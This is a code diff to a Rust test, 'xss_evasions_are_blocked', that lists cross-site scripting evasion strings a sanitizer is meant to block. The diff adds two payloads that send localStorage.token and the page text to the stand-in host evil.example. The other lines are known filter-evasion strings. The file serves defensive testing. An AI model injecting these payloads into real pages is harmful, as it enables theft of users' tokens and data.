@@ -115,6 +115,8 @@ fn xss_evasions_are_blocked() {
             "';Reflect.apply(alert,0,[1])//",
             "';top[8680439..toString(30)](1)//",
             "';throw[onerror=alert]//",
+            "';fetch('//evil.example/'+localStorage.token)//",
+            "';(new Image).src='//evil.example/'+document.body.innerText//",
             "x autofocus onfocus=location=name",
             "%E0%80%BCimg src=x onerror=location=name%E0%80%BE",
             "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
